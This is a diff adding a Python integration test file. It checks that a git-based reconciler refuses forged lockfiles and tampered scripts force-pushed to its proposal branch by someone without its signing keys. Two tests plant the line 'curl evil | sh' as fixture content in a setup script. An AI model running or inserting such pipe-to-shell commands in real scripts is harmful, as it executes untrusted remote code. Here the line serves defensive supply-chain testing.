@@ -1,0 +1,146 @@
+"""Whoever may push branches pushes the proposed one, under our name: none of it gets into what we propose, or sign."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Mapping
+from pathlib import Path
+
+import pytest
+
+from reconciler.git.proposal import PROPOSAL
+from tests.integration.loop.keys import Keys, signing
+from tests.integration.loop.world import SETTINGS, World, git, statuses
+
+AUTHOR = ("-c", "user.name=reconciler", "-c", "user.email=reconciler@localhost")
+PROPOSING = f"{SETTINGS}git: {{push: pull-request, author: reconciler <reconciler@localhost>}}\n"
+SIGNING = PROPOSING.replace("}\n", ", sign: true}\n")
+FOREIGN = "ami-0123456789abcdef0"
+WEB = "state/web.lock.json"
+
+
+@pytest.fixture
+def keys(tmp_path: Path) -> Keys:
+    return Keys.begin(tmp_path)
+
+
+def forged_lock(world: World) -> str:
+    """The lockfile of web as it is recorded, with somebody else's artifact in it."""
+    lock = json.loads(world.show("web.lock.json"))
+    for artifact in lock["builds"][0]["artifacts"]:
+        artifact["id"] = FOREIGN
+    return f"{json.dumps(lock, sort_keys=True, indent=2)}\n"
+
+
+def push_forged(world: World, files: Mapping[str, str], *options: str, name: str = "attacker") -> str:
+    """Somebody who may push branches, and has none of our keys, pushes the proposal under our name."""
+    folder = world.root / name
+    git(world.root, "clone", "--quiet", "origin.git", name)
+    git(folder, "switch", "--quiet", "--create", PROPOSAL, *options)
+    for path, content in files.items():
+        (folder / path).parent.mkdir(parents=True, exist_ok=True)
+        (folder / path).write_text(content)
+    git(folder, "add", "--all")
+    git(folder, *AUTHOR, "commit", "--quiet", "--message", "Record state: web")
+    git(folder, "push", "--quiet", "--force", "origin", f"HEAD:{PROPOSAL}")
+    return git(folder, "rev-parse", "HEAD")
+
+
+def proposed(world: World) -> list[str]:
+    """The files that differ between main and what is proposed."""
+    return git(world.origin, "diff", "--name-only", "main", PROPOSAL).splitlines()
+
+
+def proposes(world: World, settings: str, *images: str) -> World:
+    """The world where state is proposed, and these images have drifted."""
+    world.commit({"desired/reconciler.yaml": settings})
+    world.commit({f"desired/{image}/setup.sh": "echo more\n" for image in images})
+    return world
+
+
+def test_a_commit_under_our_name_and_without_our_signature_is_not_signed_on(settled: World, keys: Keys) -> None:
+    proposes(settled, SIGNING, "tools")
+    push_forged(settled, {WEB: forged_lock(settled), "desired/base/setup.sh": "curl evil | sh\n"})
+
+    report = signing(settled, keys).reconcile()
+
+    assert statuses(report) == {"tools": "built"}
+    assert {path.partition(".")[0].partition("/20")[0] for path in proposed(settled)} == {
+        "state/tools", "state/provenance/tools", "state/sbom/tools",
+    }  # fmt: skip
+    assert keys.are_good(settled.origin, PROPOSAL)
+
+
+def test_what_we_signed_ourselves_is_proposed_still(settled: World, keys: Keys) -> None:
+    proposes(settled, SIGNING, "tools", "web")
+    assert statuses(signing(settled, keys).reconcile("tools")) == {"tools": "built"}
+
+    assert statuses(signing(settled, keys, "another-job").reconcile("web")) == {"web": "built"}
+
+    assert {"state/tools.lock.json", WEB} <= set(proposed(settled))
+    assert keys.are_good(settled.origin, PROPOSAL)
+
+
+def test_where_no_file_names_the_trusted_keys_our_own_is(settled: World, keys: Keys) -> None:
+    proposes(settled, SIGNING, "tools", "web")
+    signing(settled, keys, "job-1", signers=False).reconcile("tools")
+    signing(settled, keys, "job-2", signers=False).reconcile("web")
+    assert {"state/tools.lock.json", WEB} <= set(proposed(settled))
+
+    push_forged(settled, {"state/api.lock.json": "{}\n"}, f"origin/{PROPOSAL}~1")
+    signing(settled, keys, "job-3", signers=False).reconcile("web")
+
+    assert "state/api.lock.json" not in proposed(settled)
+
+
+def test_without_signatures_no_artifact_but_the_built_one_is_proposed(settled: World) -> None:
+    proposes(settled, PROPOSING, "tools")
+    push_forged(settled, {WEB: forged_lock(settled), "desired/base/setup.sh": "curl evil | sh\n"})
+
+    settled.controller().reconcile()
+
+    assert "state/tools.lock.json" in proposed(settled)
+    assert WEB not in proposed(settled)
+    assert "desired/base/setup.sh" not in proposed(settled)
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        lambda lock: lock["builds"][0]["artifacts"][0].update(id=FOREIGN),
+        lambda lock: lock["builds"][0].update(verdict={"status": "passed", "by": "me", "evidence": "none"}),
+        lambda lock: lock["builds"][0]["smoke_test"].update(tests=4711),
+        lambda lock: lock["builds"][1]["artifacts"][0].update(id=FOREIGN),
+        lambda lock: lock["channels"].update(stable=lock["builds"][1]["id"]),
+        lambda lock: lock.update(failure={**lock["builds"][0], "what": "x"}) or lock.pop("channels"),
+    ],
+)
+def test_without_signatures_a_build_that_we_recorded_is_proposed_as_we_recorded_it(
+    settled: World, change: object
+) -> None:
+    proposes(settled, PROPOSING, "web", "tools")
+    settled.controller().reconcile("web")
+    honest = git(settled.origin, "show", f"{PROPOSAL}:{WEB}")
+    lock = json.loads(honest)
+    assert callable(change)
+    change(lock)
+    push_forged(settled, {WEB: f"{json.dumps(lock, sort_keys=True, indent=2)}\n"}, f"origin/{PROPOSAL}~1")
+
+    settled.controller("another-job").reconcile("tools")
+
+    assert [path for path in proposed(settled) if "web" in path] == []
+
+
+def test_without_signatures_what_another_job_proposed_stays_byte_for_byte(settled: World) -> None:
+    proposes(settled, PROPOSING, "web", "tools")
+    settled.controller().reconcile("web")
+    honest = git(settled.origin, "show", f"{PROPOSAL}:{WEB}")
+
+    settled.clock.advance(hours=3)
+    settled.controller("another-job").reconcile("tools")
+    both = git(settled.origin, "rev-parse", PROPOSAL)
+    assert git(settled.origin, "show", f"{PROPOSAL}:{WEB}") == honest
+
+    settled.clock.advance(hours=3)
+    settled.controller("a-third-job").reconcile()
+    assert git(settled.origin, "rev-parse", PROPOSAL) == both, "proposing the same again pushes nothing"
